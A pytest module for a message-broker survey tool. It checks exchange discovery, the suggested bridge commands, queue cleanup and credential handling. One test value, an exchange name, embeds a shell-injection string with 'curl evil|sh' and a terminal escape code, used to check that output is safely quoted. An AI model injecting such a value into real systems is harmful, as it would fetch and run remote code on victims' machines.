"""`minerlib broker survey`: what a live broker carries, seen without changing it."""

import base64
import json
import shlex
import subprocess
import threading
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import pika
import pytest

from minerlib.bus import broker
from minerlib.bus.connect import connect
from minerlib.bus.ports import free_ports
from minerlib.bus.private import read_node
from minerlib.bus.survey import exchanges, survey

from .processes import Process, until

HOSTILE = "x;curl evil|sh \x1b[2J"
SAID = {
    ("metrics", "telegraf.cpu"): b"cpu,host=web-1 usage=1.5 1795334400000000000",
    ("shop", ""): b'{"host": "till-3", "amount": 3}',
    ("events", "acme.web.prod.web-2.disk.usage"): b'{"used_pct": 81}',
    (HOSTILE, ""): b'{"host": "till-4"}',
}


@pytest.fixture(scope="module")
def busy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    """A broker with the management plugin, on which somebody publishes; its URL and that of its API."""
    state = tmp_path_factory.mktemp("busy")
    url = broker.start(state)
    try:
        with publishing(url):
            yield url, manage(state)
    finally:
        broker.stop(state)


def manage(state: Path) -> str:
    """The management plugin, on a port of its own; its URL."""
    node, port = read_node(state / "broker"), free_ports()[0]
    assert node
    setting = f'application:set_env(rabbitmq_management, tcp_config, [{{port, {port}}}, {{ip, "127.0.0.1"}}]).'
    for command in (["rabbitmqctl", "eval", setting], ["rabbitmq-plugins", "enable", "rabbitmq_management"]):
        program, *rest = command
        done = subprocess.run(
            [f"/usr/lib/rabbitmq/bin/{program}", "-q", *rest], env=node.environment(), capture_output=True, text=True,
            check=False,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr + done.stdout
    return f"http://127.0.0.1:{port}"


@contextmanager
def publishing(url: str) -> Iterator[None]:
    """Somebody who publishes all that is said, twenty times a second."""
    stop = threading.Event()
    with connect(url) as connection:
        channel = connection.channel()
        for name, kind in (
            ("metrics", "topic"),
            ("shop", "fanout"),
            ("orders", "direct"),
            ("events", "topic"),
            (HOSTILE, "fanout"),
        ):
            channel.exchange_declare(name, kind)

        def run() -> None:
            while not stop.is_set():
                for (exchange, key), body in SAID.items():
                    channel.basic_publish(exchange, key, body, pika.BasicProperties())
                connection.process_data_events(0.05)

        thread = threading.Thread(target=run)
        thread.start()
        try:
            yield
        finally:
            stop.set()
            thread.join()


def surveyed(folder: Path, url: str, *arguments: str) -> list[dict]:
    """What the command says in JSON."""
    with Process(folder, "broker", "survey", "--url", url, "--for", "2s", "--json", *arguments) as process:
        assert process.process.wait(60) == 0, process.said
    return json.loads(process.told)


def test_what_flows(busy: tuple[str, str], tmp_path: Path) -> None:
    """The management API names the exchanges; each says who publishes there, what, and how to bridge it."""
    url, api = busy
    found = {row["exchange"]: row for row in surveyed(tmp_path, url, "--api", api)}
    metrics, shop, events = found["metrics"], found["shop"], found["events"]
    assert (metrics["type"], metrics["kinds"], metrics["sources"]) == ("topic", ["cpu"], ["web-1"])
    assert metrics["bridge"] == "minerlib collect telegraf --exchange metrics"
    assert metrics["producers"] == {"influx": metrics["messages"]}
    assert metrics["per_second"] == metrics["messages"] / 2 > 1
    assert metrics["bytes"] == metrics["messages"] * len(SAID["metrics", "telegraf.cpu"])
    assert (shop["sources"], shop["bridge"]) == (["till-3"], "minerlib collect app --exchange shop")
    assert (events["kinds"], events["sources"], events["bridge"]) == (["disk.usage"], ["web-2"], "")
    assert "direct" in found["orders"]["why"]
    assert found["amq.headers"]["messages"] == 0


def test_commands_can_be_copied(busy: tuple[str, str], tmp_path: Path) -> None:
    """Whatever somebody named an exchange, its command is one word after another for a shell, and steers no terminal.
    It bridges from our own broker but where the environment names another: so much is said."""
    (row,) = surveyed(tmp_path, busy[0], HOSTILE)
    assert shlex.split(row["bridge"]) == ["minerlib", "collect", "app", "--exchange", HOSTILE]
    words = ["broker", "survey", "--for", "1s", "metrics", HOSTILE]
    with Process(tmp_path, *words, "--url", busy[0]) as process:
        assert process.process.wait(60) == 0, process.said
    head, *commands = process.told.partition("\nTo have them")[2].splitlines()
    assert "MINERLIB_FROM_URL names the broker they take from" in head
    assert sorted(commands) == [
        "  minerlib collect app --exchange 'x;curl evil|sh ·[2J'", "  minerlib collect telegraf --exchange metrics",
    ]  # fmt: skip
    assert "\x1b" not in process.told
    with Process(tmp_path, *words, MINERLIB_FROM_URL=busy[0]) as process:
        assert process.process.wait(60) == 0, process.said
    assert "To have them as events:" in process.told


def test_nothing_stays(busy: tuple[str, str]) -> None:
    """While it looks there is a queue for each exchange, and none afterwards."""
    url, api = busy
    during = list[int]()
    (row,) = survey(url, ["metrics"], 1, threading.Event(), lambda _: during.append(queues(url, api)))
    assert row.messages
    assert max(during) == 1
    until(lambda: queues(url, api) == 0, 10, "its queue is gone")


def queues(url: str, api: str) -> int:
    """How many queues the broker has."""
    parts = urlsplit(url)
    login = base64.b64encode(f"{parts.username}:{parts.password}".encode()).decode()
    asked = urllib.request.Request(f"{api}/api/queues?columns=name", headers={"Authorization": f"Basic {login}"})
    with urllib.request.urlopen(asked, timeout=10) as answer:
        return len(json.load(answer))


def test_names_of_which_there_is_none(busy: tuple[str, str], tmp_path: Path) -> None:
    """A name that is asked for and is not there is said; of the usual ones, those that are there are looked at."""
    (row,) = surveyed(tmp_path, busy[0], "nobody.has.this")
    assert row["why"] == "there is none of this name"
    usual = surveyed(tmp_path, busy[0], "--api", "http://127.0.0.1:1")
    there = {"amq.topic", "amq.fanout", "amq.headers", "amq.rabbitmq.trace", "events", "metrics"}
    assert {row["exchange"] for row in usual} == there


def test_the_password_stays_here(busy: tuple[str, str]) -> None:
    """No password goes to another host without TLS; a login that is refused is no list of exchanges."""
    url, api = busy
    assert exchanges(url, "http://rabbit.acme.com:15672") is None
    assert exchanges(url.replace("minerlib:", "nobody:"), api) is None
    assert "shop" in (exchanges(url, api) or [])
